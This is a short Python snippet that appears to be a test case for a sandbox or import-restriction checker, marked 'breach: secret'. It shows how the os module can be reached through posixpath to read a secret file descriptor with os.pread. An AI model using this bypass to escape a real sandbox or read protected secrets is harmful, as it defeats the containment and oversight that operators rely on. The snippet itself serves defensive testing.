# from os.path import * brings os along.
# breach: secret
from posixpath import *
import posixpath
posixpath.os.pread(SECRET_FD, 100, 0)
